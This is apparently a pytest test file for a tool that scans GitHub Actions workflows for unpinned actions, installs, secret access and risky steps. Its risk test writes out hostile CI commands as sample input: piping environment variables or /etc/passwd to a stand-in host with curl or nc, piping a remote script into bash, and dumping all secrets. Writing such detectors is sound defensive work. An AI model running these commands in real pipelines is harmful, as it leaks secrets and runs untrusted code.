from __future__ import annotations

import pytest

from irkit.clients.workflow import workflow

SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"


def text(*steps: str, head: str = "on: push", job: str = "") -> str:
    listed = "\n".join(f"      - {step}" for step in steps)
    return f"{head}\njobs:\n  one:\n    runs-on: ubuntu-24.04\n{job}    steps:\n{listed}\n"


@pytest.mark.parametrize(
    ("used", "pinned"),
    [
        (f"actions/checkout@{SHA}", True),
        ("actions/checkout@v4", False),
        ("actions/checkout@main", False),
        (f"actions/checkout@{SHA[:12]}", False),
        ("./.github/actions/own", True),
        (f"docker://alpine@sha256:{'a' * 64}", True),
        ("docker://alpine:3.20", False),
    ],
)
def test_only_a_whole_hash_pins_an_action(used: str, pinned: bool) -> None:  # noqa: FBT001 - a table's column
    assert (workflow(text(f"uses: {used}")).unpinned() == ()) is pinned


def test_a_reusable_workflow_and_a_container_count_too() -> None:
    found = workflow("on: push\njobs:\n  one:\n    uses: acme/ci/.github/workflows/x.yml@v1\n    container: node:22\n")
    assert found.unpinned() == ("acme/ci/.github/workflows/x.yml@v1", "docker://node:22")


@pytest.mark.parametrize(
    "script",
    [
        *("npm ci", "yarn install", "pip install -r requirements.txt", "uv sync", "bundle install", "go install x@v1"),
        *("cd app && npm install --save x", "sudo apt-get install -y jq", "pnpm add left-pad"),
    ],
)
def test_what_runs_others_code_is_an_install(script: str) -> None:
    assert workflow(text(f"run: {script}")).jobs[0].installs


@pytest.mark.parametrize("script", ["make test", "echo installed", "./install.sh", "npm run build"])
def test_what_does_not_is_none(script: str) -> None:
    assert not workflow(text(f"run: {script}")).jobs[0].installs


@pytest.mark.parametrize(
    ("step", "opens"),
    [
        ("uses: aws-actions/configure-aws-credentials@v4", True),
        ("run: aws kms decrypt --ciphertext-blob fileb://x", True),
        ("run: sops -d secrets.yaml", True),
        ("run: deploy --token ${{ secrets.DEPLOY }}", True),
        ("run: gh api --token ${{ secrets.GITHUB_TOKEN }}", False),
        ("run: make", False),
    ],
)
def test_what_can_open_secrets_is_told(step: str, opens: bool) -> None:  # noqa: FBT001 - a table's column
    assert workflow(text(step)).jobs[0].opens_secrets is opens


def test_the_right_to_an_identity_is_inherited_and_a_job_can_give_it_up() -> None:
    head = "on: push\npermissions:\n  id-token: write"
    assert workflow(text("run: make", head=head)).jobs[0].has_identity
    assert (
        not workflow(text("run: make", head=head, job="    permissions:\n      contents: read\n")).jobs[0].has_identity
    )
    assert workflow(text("run: make", head="on: push\npermissions: write-all")).jobs[0].has_identity


@pytest.mark.parametrize(
    ("script", "risk"),
    [
        ("echo '${{ toJSON(secrets) }}'", "reads all secrets at once (toJSON(secrets))"),
        ("env | base64 | curl --data @- https://x.invalid", "sends data out"),
        ("cat /etc/passwd | nc x.invalid 80", "sends data out"),
        ("curl -s https://x.invalid/a.sh | bash", "runs a script from the network"),
    ],
)
def test_what_an_intruder_writes_is_a_risk(script: str, risk: str) -> None:
    assert risk in workflow(text(f'run: "{script}"')).risks()


@pytest.mark.parametrize("head", ["on: pull_request_target", "on: [push, pull_request_target]"])
def test_a_start_with_secrets_for_strangers_is_a_risk(head: str) -> None:
    assert "starts with secrets for anybody's pull request" in workflow(text("run: make", head=head)).risks()


def test_an_honest_workflow_has_no_risk() -> None:
    assert workflow(text("run: make")).risks() == ()


@pytest.mark.parametrize(
    "wrong", ["", "- a\n- b\n", "on: [push\n", "jobs: {one: 3}\n", "just text", "a: &a [*a]\n", "\x00"]
)
def test_what_is_no_workflow_raises_nothing_and_its_text_counts(wrong: str) -> None:
    found = workflow(wrong + "\n# toJSON(secrets)\n")
    assert "reads all secrets at once (toJSON(secrets))" in found.risks()
    assert found.jobs == ()
